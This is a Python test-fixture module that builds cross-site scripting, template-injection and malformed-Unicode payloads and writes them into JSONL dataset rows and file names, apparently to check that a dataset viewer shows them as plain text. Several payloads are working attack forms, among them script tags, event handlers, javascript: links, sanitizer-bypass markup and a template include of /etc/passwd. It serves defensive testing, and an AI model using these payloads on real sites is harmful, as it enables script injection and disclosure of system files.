"""Texts that would run, load, hide or shift something, if a page took them for more than text.

What a payload would make of itself carries the id or class ``ran``, and what it would run sets ``window.__ran``, opens
a dialog or asks for something over the network; so one can see if it did.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from pathlib import Path

RUN = "window.__ran=1;alert(1)"
AWAY = "https://ran.invalid/"
MARKS = "\u0301\u0316\u0489\u0334\u20dd"
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
TAGS = "".join(chr(0xE0000 + ord(one)) for one in "gbeng") + "\U000e007f"
FLAGS = "\U0001f3f3\ufe0f\u200d\U0001f308\U0001f3f4" + TAGS


@dataclass(frozen=True, slots=True)
class Payload:
    """A text and how the page must show it."""

    name: str
    text: str
    shown: str = ""
    """What must be found in the page as text; without it the whole payload."""

    @property
    def visible(self) -> str:
        return self.shown or self.text


PAYLOADS = (
    Payload("script", f"<script id=ran>{RUN}</script>"),
    Payload("script from elsewhere", f'<script src="{AWAY}a.js" class=ran></script>'),
    Payload("script in capitals, broken", f"<ScRiPt\n/id=ran>{RUN}//<</sCrIpT>"),
    Payload("picture with a handler", f'<img src=x id=ran onerror="{RUN}">'),
    Payload("svg with a handler", f"<svg class=ran onload={RUN}><circle r=9 onclick={RUN} /></svg>"),
    Payload("details with a handler", f"<details open ontoggle={RUN} class=ran><summary>x</summary></details>"),
    Payload("input with a handler", f'<input id=ran autofocus onfocus="{RUN}">'),
    Payload("double quote", f'" autofocus tabindex=1 onfocus="{RUN}" class="ran'),
    Payload("single quote", f"' onmouseover='{RUN}' class='ran"),
    Payload("backtick and end of a tag", f"`/><b id=ran onclick={RUN}>"),
    Payload("end of a style", "</style><style class=ran>section{display:none}*{position:fixed}</style>"),
    Payload("end of a title", f"</title></head><body class=ran onload={RUN}>"),
    Payload("end of a chart", f"</title></desc></text></svg><script class=ran>{RUN}</script>"),
    Payload("end of all", "</details></td></tr></table></div></section></main></body></html><h1 class=ran>x</h1>"),
    Payload("open comment", "<!-- ran <!--[if IE]><b id=ran>"),
    Payload("closed comment", f"--><b class=ran></b><script>{RUN}</script><!--"),
    Payload("character data", f"]]><script class=ran>{RUN}</script><![CDATA[ <b id=ran>"),
    Payload("template expression", "{{ 7 * 7191 }} {{ config }} ${7*7191} #{7*7191} <%= 7*7191 %>"),
    Payload("template block", "{% for x in [].__class__.__mro__ %}{% endraw %}{# ran #}{% include '/etc/passwd' %}"),
    Payload("template that is undefined", "{{ ran.of.nothing | safe }}{{''.__class__}}"),
    Payload("format of Python", "{0} {} {value!r} {0.__class__} %s %(ran)s {:,}"),
    Payload("link with a script", f'<a href="javascript:{RUN}" class=ran>click</a> javascript:{RUN}'),
    Payload("link with data", f"data:text/html,<script>{RUN}</script>"),
    Payload("entities", "&lt;script class=ran&gt;&#60;b id=ran&#62; &#x3C;i&#x3E; &ltimg &amp;lt; &quot;&apos;"),
    Payload("style with an address", f"<p class=ran style=\"width:expression({RUN});background:url('{AWAY}b.png')\">x"),
    Payload("style sheet", f"<link class=ran rel=stylesheet href={AWAY}c.css> @import url({AWAY}d.css);}}*{{}}"),
    Payload("refresh", f'<meta id=ran http-equiv="refresh" content="0;url={AWAY}">'),
    Payload("frame", f'<iframe id=ran src="javascript:parent.{RUN}" srcdoc="<script>parent.{RUN}</script>"></iframe>'),
    Payload("base", f"<base class=ran href={AWAY}>"),
    Payload("form", f"<form id=ran action={AWAY}><button class=ran formaction=javascript:{RUN}>x</button></form>"),
    Payload("template element", f"<template class=ran><script>{RUN}</script></template><slot id=ran></slot>"),
    Payload(
        "names of MathML", f"<math><mtext><table><mglyph><style><!--</style><img class=ran src=1 onerror={RUN}></math>"
    ),
    Payload("names of SVG", f"<svg><foreignObject class=ran><p><style><a title='</style><img src onerror={RUN}>'>"),
    Payload("object and media", f"<object class=ran data={AWAY}e></object><video src={AWAY}f onerror={RUN}></video>"),
    Payload("switch of the language", "<input type=radio name=lang id=lang-zh class=ran checked><label for=lang-en>x"),
    Payload("line separators", "ran\u2028line\u2029paragraph\u0085next", "paragraph"),
    Payload("mark of byte order", "\ufeffran\ufeffbyte\ufefforder", "order"),
    Payload("UTF-7", "+ADw-script+AD4-window.__ran+AD0-1+ADw-/script+AD4-"),
    Payload(
        "right to left", "\u202eran gnitfihs\u202d\u2067 \u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631", "ran gnitfihs"
    ),
    Payload("zero width", "z\u200be\u200cr\u200do\u2060w\u00adi\u034fd\u180et\ufe0fh\U000e0041tag", "tag"),
    Payload(
        "marks above marks", "Zalgo: " + "".join(c + "\u0301\u0316\u0489\u0334\u20dd" * 30 for c in "他来了"), "Zalgo"
    ),
    Payload("controls", "\x00\x01\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x9b31m\r\rcontrols", "controls"),
    Payload("pictures joined", FAMILY * 60 + FLAGS + "\u200d\U0001f469\U0001f3fd\u200d\U0001f680" * 40, FAMILY),
    Payload("widest characters", "﷽" * 80 + "𒐫" * 60 + "⸻" * 60, "﷽﷽"),
    Payload("private and unassigned", "\ue000\uf8ff\U0010fffd\ufdd0\uffff\ufffd unassigned", "unassigned"),
    Payload("address without a break", AWAY + "path/" * 60),
    Payload("blanks", "a" + " \u3000\u00a0\t" * 60 + "blanks", "blanks"),
    Payload("word without a break", "ran" + "a" * 100_000, "ran" + "a" * 200),
    Payload("dashes without a break", "⸺" * 3_000, "⸺" * 40),
    Payload("line feeds", "feeds" + "\n" * 10_000 + "ran", "feeds"),
    Payload("carriage returns", "returns" + "\r\n" * 3_000 + "ran", "returns"),
)


def groups() -> list[tuple[Payload, ...]]:
    """The payloads, so many together that an example shows them all; what is long stands alone."""
    found: list[list[Payload]] = [[]]
    for payload in PAYLOADS:
        if found[-1] and sum(len(one.text) for one in (*found[-1], payload)) > 700:
            found.append([])
        found[-1].append(payload)
    return [tuple(group) for group in found]


CHARACTERS = "春天来了公园里的花都开孩子们在草地上放风筝笑声传得很远水和米比例是多少如何列出三种果请写一首关于秋天短诗"


def write_rows(folder: Path, payloads: tuple[Payload, ...]) -> list[Path]:
    """Write files of rows that hold the payloads everywhere: rows that each stage removes, kept ones, bad lines.

    The names of the files are payloads too, as far as a file system takes them.
    """
    chance = random.Random(5)

    def sentence(count: int) -> str:
        return "".join(chance.choices(CHARACTERS, k=count))

    rows: list[dict[str, Any] | str] = []
    for number, payload in enumerate(payloads):
        # Each comes first in some row: a page shows only the beginning of a long text.
        everything = " ".join(one.text for one in (*payloads[number:], *payloads[:number]))
        asked, answer, one = sentence(30), sentence(300), payload.text
        rows += [
            {"id": f"{one} empty", "instruction": everything, "input": one, "output": ""},
            {
                "id": f"{one} refusal",
                "instruction": one + asked,
                "input": "",
                "output": f"作为一个人工智能语言模型，{everything}",
            },
            {"id": f"{one} kept", "instruction": everything, "input": one, "output": everything + answer, one: one},
            {"id": f"{one} exact", "instruction": everything, "input": one, "output": everything + answer, one: [one]},
            {"id": f"{one} near", "instruction": everything, "input": one, "output": everything + answer + "。"},
            {"id": f"{one} meaning", "instruction": everything, "input": one, "output": sentence(200) + everything},
            {"messages": [{"role": "user", "content": everything}, {"role": one, "content": one}]},
            {"conversations": [{"from": one, "value": everything}], one: one},
            {one: {one: one}},
            json.dumps({"id": one, "instruction": everything, "output": "half \ud800 of a pair"}),
            "{broken " + one.replace("\n", " "),
        ]
    rows += [
        {"id": f"{number} {payload.text}", "instruction": sentence(40), "output": sentence(60) + payload.text}
        for number in range(24)
        for payload in payloads[:2]
    ]
    half = len(rows) // 2
    paths = []
    for name, part in zip(file_names(payloads), (rows[:half], rows[half:]), strict=True):
        paths.append(folder / name)
        lines = [row if isinstance(row, str) else json.dumps(row, ensure_ascii=False) for row in part]
        paths[-1].write_text("".join(f"{line}\n" for line in lines), encoding="utf-8", newline="\n")
    return paths


def file_names(payloads: tuple[Payload, ...]) -> tuple[str, str]:
    """Two names that a file system takes: no path, no pattern of names, no zero byte, not too long."""
    names = []
    for number in range(2):
        text = payloads[number % len(payloads)].text
        kept = "".join(one for one in text if one not in "/\\*?[]\0:" and not "\ud800" <= one <= "\udfff")
        while len(kept.encode()) > 200:
            kept = kept[: len(kept) * 3 // 4]
        names.append(f"{number}{kept}.jsonl")
    return names[0], names[1]
